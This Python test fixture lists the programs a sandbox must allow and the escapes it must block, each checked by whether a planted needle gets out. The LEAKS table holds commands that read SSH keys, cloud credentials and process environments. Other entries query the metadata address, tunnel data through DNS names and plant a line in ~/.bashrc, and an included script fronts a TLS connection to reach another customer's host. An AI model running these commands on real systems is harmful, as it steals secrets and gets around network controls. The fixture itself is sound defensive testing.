# SPDX-License-Identifier: Apache-2.0
"""What is tried in each sandbox: programs, as people call them, and what must not get out.

{name} is the site that is allowed, {v4} its address, {denied} one that isn't, {evil} another customer at the
address of the site, {tools} a folder of test programs, {key} an ssh key, {ca} the authority of the world, {npm} the options of npm.
"""

NPM = "--silent --no-audit --no-fund --no-update-notifier --cafile {ca} --registry https://{name}/npm/"

# Each program of people's day: what, the shell line, what it says when it works. With the network:
REMOTE = (
    ("curl, HTTPS", "curl -sS -m 20 https://{name}/", '"host": "{name}"'),
    ("wget", "wget -qO- --ca-certificate={ca} https://{name}/", '"host": "{name}"'),
    ("git clone over HTTPS", "git clone -q https://{name}/git/tree.git && cat tree/file", "content"),
    ("Python's urllib", "/usr/bin/python3 -c 'import urllib.request as u; print(u.urlopen(\"https://{name}/\", timeout=20).read())'",
     '"host": "{name}"'),
    ("Python, its own socket", "/usr/bin/python3 -c 'import socket; s = socket.create_connection((\"{name}\", 7007), 20); "
     "s.sendall(b\"heard\"); print(s.recv(9))'", "heard"),
    ("pip download", "/usr/bin/python3 -m pip download -q --no-deps --cert {ca} -i https://{name}/simple weirtest && ls", "weirtest-1.0"),
    ("npm install", "npm install {npm} weirtest && ls node_modules", "weirtest"),
    ("npm install, its cache in the project", "npm install {npm} --cache cache weirtest && ls node_modules", "weirtest"),
    ("Node's fetch", "node -e 'fetch(\"https://{name}/\").then(r => r.text()).then(console.log)'", '"host": "{name}"'),
    ("Go, its own socket", "{tools}/dial {name}:7007", "heard"),
    ("Go's net/http, static", "{tools}/fetch https://{name}/", '"host": "{name}"'),
    ("Java's HttpURLConnection", "java -XX:TieredStopAtLevel=1 -cp {tools} Fetch https://{name}/ {ca}", '"host": "{name}"'),
    ("openssl s_client", "openssl s_client -brief -CAfile {ca} -servername {name} -connect {name}:443 </dev/null 2>&1",
     "CONNECTION ESTABLISHED"),
    ("ssh", "ssh -F none -i {key} -o BatchMode=yes -o ConnectTimeout=20 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "
     "root@{name} hello", "welcome: hello"),
    ("nc, plain TCP", "echo heard | nc -N -w 20 {name} 7007", "heard"),
    ("UDP", "echo heard | nc -u -w 2 {name} 7007", "heard"),
    ("ping", "ping -c 1 -W 5 {name}", "1 received"),
)

# With files, processes and the sandbox's own loopback:
LOCAL = (
    ("a server and its client on loopback", "/usr/bin/python3 -m http.server 8765 --bind 127.0.0.1 >/dev/null 2>&1 & "
     "for _ in $(seq 50); do sleep 0.2; curl -s --noproxy '*' http://127.0.0.1:8765/ && break; done; kill $!", "Directory listing"),
    ("a unix socket of its own", "/usr/bin/python3 -c 'import socket; a = socket.socket(socket.AF_UNIX); a.bind(\"s\"); a.listen(); "
     "b = socket.socket(socket.AF_UNIX); b.connect(\"s\"); b.send(b\"heard\"); print(a.accept()[0].recv(9))'", "heard"),
    ("Python's multiprocessing", "/usr/bin/python3 -c 'import multiprocessing as m; print(m.Pool(2).map(abs, [-7, -8]))'", "[7, 8]"),
    ("tmux", "tmux -L t -f /dev/null new -d 'sleep 60' && tmux -L t ls; tmux -L t kill-server", "1 windows"),
    ("gdb", "gdb -nx -batch -ex run -ex 'info program' --args true 2>&1", "exited normally"),
    ("cc and make", "printf 'all:\\n\\tcc -o t t.c && ./t\\n' >Makefile; echo 'int puts(const char *); int main(void) {{ return !puts(\"built\"); }}' "
     ">t.c; make -s", "built"),
    ("git commit", "git init -q . && git -c user.name=t -c user.email=t@t.test commit -q --allow-empty -m one && git log --oneline", "one"),
    ("200 MB through a pipe", "head -c 200000000 /dev/zero | wc -c", "200000000"),
    ("python3 -m venv", "/usr/bin/python3 -m venv --without-pip v && v/bin/python -c 'import sys; print(sys.prefix != sys.base_prefix)'", "True"),
    ("SQLite", "/usr/bin/python3 -c 'import sqlite3; d = sqlite3.connect(\"d\"); d.execute(\"pragma journal_mode=wal\"); d.execute(\"create table t (n)\"); "
     "d.execute(\"insert into t values (7)\"); d.commit(); print(sqlite3.connect(\"d\").execute(\"select n from t\").fetchall())'", "[(7,)]"),
    ("files in /tmp", "echo kept >/tmp/compare-x && cat /tmp/compare-x", "kept"),
)

PROGRAMS = REMOTE + LOCAL + (
    ("a user namespace inside (bwrap)", "bwrap --unshare-user --ro-bind / / --dev /dev echo nested", "nested"),
)

# A client that goes by the proxy of its environment, where there is one, and shows another server name than it asked for.
FRONT = r"""
import base64, os, socket, ssl, sys, urllib.parse
name, v4, evil = sys.argv[1:]
def way():
    proxy = os.environ.get("https_proxy") or os.environ.get("HTTPS_PROXY")
    if not proxy:
        return socket.create_connection((v4, 443), 10)
    u = urllib.parse.urlsplit(proxy)
    s = socket.create_connection((u.hostname, u.port), 10)
    auth = base64.b64encode(f"{urllib.parse.unquote(u.username)}:{urllib.parse.unquote(u.password or '')}".encode()).decode() if u.username else ""
    s.sendall((f"CONNECT {name}:443 HTTP/1.1\r\nHost: {name}:443\r\n" + (f"Proxy-Authorization: Basic {auth}\r\n" if auth else "") + "\r\n").encode())
    s.recv(4096)
    return s
socket.getaddrinfo(name, 443) if not os.environ.get("HTTPS_PROXY") else None
c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
t = c.wrap_socket(way(), server_hostname=evil)
t.sendall(f"GET /front HTTP/1.1\r\nHost: {evil}\r\nConnection: close\r\n\r\n".encode())
print(t.recv(4096))
"""

# Each thing that must not be: what, the shell line, and where it is seen that it was: "out", a text in what the line printed;
# "web", a request that arrived for this name or address; "dns", a question at the resolver;
# "file", a text in this file of the home; "socket", a line at the socket or port outside.
LEAKS = (
    ("token in the environment", "env", "out", "needle-environment"),
    ("SSH key", "cat ~/.ssh/id_ed25519", "out", "needle-ssh"),
    ("cloud credentials", "cat ~/.aws/credentials", "out", "needle-aws"),
    ("git's and npm's tokens", "cat ~/.git-credentials ~/.npmrc", "out", "needle-token"),
    ("shell history", "cat ~/.bash_history", "out", "needle-history"),
    ("environment of another process", "cat /proc/*/environ | tr '\\0' '\\n'", "out", "needle-process"),
    ("metadata address", "curl -s -m 5 --noproxy '*' http://169.254.169.254/; curl -s -m 5 http://169.254.169.254/", "web", "169.254.169.254"),
    ("data in DNS names", "getent hosts needle-1.tunnel.test; dig +tries=1 +time=2 @5.100.53.53 needle-2.tunnel.test; "
     "curl -s -m 5 http://needle-3.tunnel.test/", "dns", "tunnel.test"),
    ("a denied name", "curl -s -m 5 https://{denied}/; curl -s -m 5 --noproxy '*' https://{denied}/", "web", "{denied}"),
    ("another customer at an allowed address", "/usr/bin/python3 {tools}/front.py {name} {v4} {evil}", "web", "{evil}"),
    ("a service of the host's loopback", "curl -s -m 5 --noproxy '*' http://127.0.0.1:9191/; curl -s -m 5 http://localhost:9191/; "
     "curl -s -m 5 http://5.100.0.2:9191/", "socket", "port"),
    ("a unix socket of the host (an agent)", "/usr/bin/python3 -c 'import os, socket; s = socket.socket(socket.AF_UNIX); "
     "s.connect(os.path.expanduser(\"~/.agent/socket\")); print(s.recv(99))'", "out", "needle-agent"),
    ("an abstract unix socket of the host", "/usr/bin/python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); "
     "s.connect(\"\\0weir-compare\"); print(s.recv(99))'", "out", "needle-agent"),
    ("writing to ~/.bashrc", "echo planted >>~/.bashrc", "file", ".bashrc"),
)
